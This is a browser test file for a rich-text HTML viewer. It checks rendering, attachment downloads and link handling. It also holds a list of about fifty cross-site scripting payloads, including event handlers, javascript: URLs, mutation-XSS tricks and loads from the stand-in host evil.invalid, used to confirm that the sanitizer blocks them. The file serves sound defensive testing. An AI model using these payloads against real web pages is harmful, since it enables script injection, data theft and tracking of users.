import { expect, it } from 'vitest';
import { page } from 'vitest/browser';
import { safeHtml } from '../../engine/schema/html/index.ts';
import { expectAccessible, testServices } from '../../test/support/mount.tsx';
import { mountScreen } from '../../test/support/mount-screen.tsx';

const saved: string[] = [];
const services = testServices('zh', {
  async request(call, { body }) {
    saved.push(`${call} ${JSON.stringify(body)}`);
    return { url: 'data:text/plain,x' };
  },
});

async function view(props: Record<string, unknown>) {
  saved.length = 0;
  const nodes = [{ id: 'text', config: { aditKey: 'htmlView', label: '正文' }, props }];
  const mounted = await mountScreen({ nodes }, { services });
  const region = page.getByRole('region', { name: '正文' });
  await expect.element(region).toBeVisible();
  return { ...mounted, region, drawn: region.element() };
}

it('draws a text with its parts, who wrote it, when, and its files', async () => {
  const { region } = await view({
    html: '<h2>安排</h2><p>本周六<b>演练</b></p><ul><li>一</li></ul><table><tr><th>系统</th></tr><tr><td colspan="2">通风</td></tr></table>',
    author: '高明',
    time: '2026-11-20T01:35:00.000Z',
    files: JSON.stringify([{ fileId: 'f1', name: '方案.pdf', url: '/x', fileSize: 2048 }, 'x']),
  });
  await expect.element(page.getByRole('heading', { name: '安排' })).toBeVisible();
  await expect.element(page.getByRole('cell', { name: '通风' })).toHaveAttribute('colspan', '2');
  await expect.element(region).toHaveTextContent('高明2026-11-20');
  await expect.element(page.getByRole('list', { name: '附件（1）' })).toHaveTextContent('方案.pdf 2 KB');
  await page.getByRole('button', { name: '下载 方案.pdf' }).click();
  await expect.poll(() => saved).toEqual(['fileTicket {"fileId":"f1","purpose":"download"}']);
  await expectAccessible();
});

it('leads to the web in a window of its own, and saves files of ours under their words', async () => {
  await view({
    html: '<a href="https://example.com/x">规程</a> <a href="/api/file/Download/annex/f7">方案</a><a>无</a>',
  });
  const link = page.getByRole('link', { name: /规程.*在新窗口打开/ });
  await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect.element(link).toHaveAttribute('target', '_blank');
  await page.getByRole('button', { name: '方案' }).click();
  await expect.poll(() => saved).toEqual(['fileTicket {"fileId":"f7","purpose":"download"}']);
  expect(page.getByRole('link').elements()).toHaveLength(1);
  await expectAccessible();
});

it('shows what is written in a field, as it is written', async () => {
  await mountScreen(
    {
      nodes: [
        { id: 'body', vModel: 'body', config: { aditKey: 'textarea', label: '内容' }, props: { maxlength: 1000 } },
        {
          id: 'text',
          config: { aditKey: 'htmlView', label: '预览' },
          props: { field: 'body', emptyText: '还没有正文', framed: true },
        },
      ],
    },
    { services },
  );
  const preview = page.getByRole('region', { name: '预览' });
  await expect.element(preview).toHaveTextContent('还没有正文');
  await page.getByRole('textbox', { name: '内容' }).fill('<p>一<script>alert(1)</script></p>');
  await expect.element(preview).toHaveTextContent(/^一$/);
  await expectAccessible();
});

/** What has run in other products, as it is and inside of what is allowed. */
const payloads = [
  '<script>hit()</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.invalid/p.png">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<style>@import "https://evil.invalid/x.css";body{background:url(https://evil.invalid/y)}</style>',
  '<link rel=stylesheet href="https://evil.invalid/x.css">',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<button formaction="javascript:hit()">x</button>',
  '<details open ontoggle=hit()>x</details>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()><option>x</select>',
  '<marquee onstart=hit()>x</marquee>',
  '<a href="javascript:hit()">x</a>',
  '<a href=" java&#9;script:hit()">x</a>',
  '<a href="&#x6A;avascript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="//evil.invalid">x</a>',
  '<p style="background:url(https://evil.invalid/z)">x</p>',
  '<p id="attributes" name="cookie">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<template><img src=x onerror=hit()></template>',
  '<title><img src=x onerror=hit()></title>',
  '<textarea><img src=x onerror=hit()></textarea>',
  '<xmp><img src=x onerror=hit()></xmp>',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<a title="x" title=\'"><img src=x onerror=hit()>\'>x</a>',
  '<td background="javascript:hit()">x</td>',
  '<p onmouseover="hit()" onclick=hit()>x</p>',
  '<custom-element onclick=hit() is=x>x</custom-element>',
  '<portal src="https://evil.invalid"></portal>',
  '<img srcset="https://evil.invalid/a 1x">',
  '<a ping="https://evil.invalid/p" href="https://example.com/">x</a>',
  `${'<div>'.repeat(2_000)}x`,
];
const around = [
  (text: string) => text,
  (text: string) => `<p>${text}</p>`,
  (text: string) => `<table><tr><td>${text}</td></tr></table>`,
  (text: string) => `<ul><li><b>${text}`,
  (text: string) => text.toUpperCase(),
  (text: string) => `<a href="https://example.com/">${text}</a>`,
];

it('runs nothing and loads nothing of 300 hostile texts, nor does what is stored of them in a plain page', async () => {
  let hits = 0;
  Object.assign(window, { hit: () => (hits += 1), HIT: () => (hits += 1) });
  const texts = payloads.flatMap((payload) => around.map((wrap) => wrap(payload)));
  expect(texts.length).toBe(300);
  const nodes = texts.map((html, index) => ({
    id: `text${index}`,
    config: { aditKey: 'htmlView' },
    props: { html },
  }));
  const { element } = await mountScreen({ nodes }, { services });
  // The same text as another program would show it.
  const plain = document.createElement('div');
  // Scripts in a fragment would run, which they would not do in innerHTML.
  plain.append(document.createRange().createContextualFragment(texts.map(safeHtml).join('<hr>')));
  element.append(plain);
  const never = 'script,style,img,svg,math,iframe,object,embed,form,link,meta,base,video,audio,template,input,textarea';
  for (const root of [...element.querySelectorAll('.adit-html-text'), plain]) {
    expect(root.querySelectorAll(never).length).toBe(0);
    for (const one of root.querySelectorAll('*'))
      for (const { name, value } of one.attributes) {
        expect(['href', 'title', 'colspan', 'rowspan', 'target', 'rel', 'class'], name).toContain(name);
        if (name === 'href') expect(value).toMatch(/^https?:\/\/example\.com\//i);
      }
  }
  await new Promise((resolve) => requestAnimationFrame(resolve));
  expect(hits).toBe(0);
  const foreign = performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.invalid'));
  expect(foreign).toEqual([]);
});
